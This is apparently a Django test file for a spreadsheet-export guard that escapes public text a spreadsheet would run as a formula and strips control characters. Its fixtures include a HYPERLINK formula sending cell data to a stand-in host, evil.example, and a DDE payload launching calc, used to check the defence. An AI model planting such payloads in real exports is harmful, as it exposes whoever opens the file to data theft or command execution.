"""One formula guard for every CSV and XLSX the service writes: text from the public that a
spreadsheet would run is written as text, and control characters never make an export fail."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Role
from core.tabular import spreadsheet_text
from engagement.models import Encounter
from tests.factories import EmployerFactory, EventFactory, RegistrationFactory, member

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
ESCAPED = "Ann\x1b[2J Lee\x07"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tTab", "'\tTab"),
        ("+447700900123", "+447700900123"),  # a phone number is a number, not a formula
        (ESCAPED, "Ann[2J Lee"),
        ("=\x1b", "'="),
        (12, 12),
        (None, None),
    ],
)
def test_the_guard(value, written):
    assert spreadsheet_text(value) == written


@pytest.fixture
def event_with_awkward_names():
    event = EventFactory()
    # Stored before input was cleaned: exports must still open.
    RegistrationFactory(event=event, name=FORMULA, email="eve@example.net")
    RegistrationFactory(event=event, name=ESCAPED, email="ann@example.net")
    return event


def test_registrations_export_as_csv_and_xlsx_guarded(client, event_with_awkward_names):
    event = event_with_awkward_names
    client.force_login(member(Role.JOBCENTRE_ORGANISER, event.organiser))

    as_csv = client.get(f"/events/manage/{event.pk}/registrations.csv")
    as_xlsx = client.get(f"/events/manage/{event.pk}/registrations.xlsx")

    assert (as_csv.status_code, as_xlsx.status_code) == (200, 200)
    body = b"".join(as_csv.streaming_content).decode("utf-8-sig")
    names = {row["Name"] for row in csv.DictReader(io.StringIO(body))}
    assert names == {"'" + FORMULA, "Ann[2J Lee"}
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).worksheets[0]
    cells = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} | {
        cell for row in sheet.iter_rows(min_row=2, values_only=True) for cell in row
    }
    assert "'" + FORMULA in cells and "Ann[2J Lee" in cells


def test_the_subject_access_csv_is_guarded(client, event_with_awkward_names):
    client.force_login(member(Role.ADMIN))

    response = client.post(
        "/personal-data/download/", {"email": "eve@example.net", "file_format": "csv"}
    )

    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["name"] == "'" + FORMULA


def test_the_engagement_rows_export_is_guarded(client):
    employer = EmployerFactory(name=FORMULA + "\x1b")
    Encounter.objects.create(
        kind="employer_talk",
        source="recorded",
        source_key="test:guard",
        occurred_on=date(2025, 10, 1),
        audience="pupils",
        people=10,
        employer=employer,
    )
    client.force_login(member(Role.LEAD))
    query = {"academic_year": "2025-26", "rows": "1"}

    as_csv = client.get(reverse("engagement-export"), query)
    as_xlsx = client.get(reverse("engagement-export"), {**query, "format": "xlsx"})

    assert (as_csv.status_code, as_xlsx.status_code) == (200, 200)
    text = b"".join(as_csv.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\x1b" not in text
    workbook = load_workbook(io.BytesIO(b"".join(as_xlsx.streaming_content)))
    cells = [c for row in workbook.worksheets[0].iter_rows(values_only=True) for c in row]
    assert any(isinstance(c, str) and c.startswith(("=HYPERLINK", "'=HYPERLINK")) for c in cells)
    assert not any(isinstance(c, str) and "\x1b" in c for c in cells)
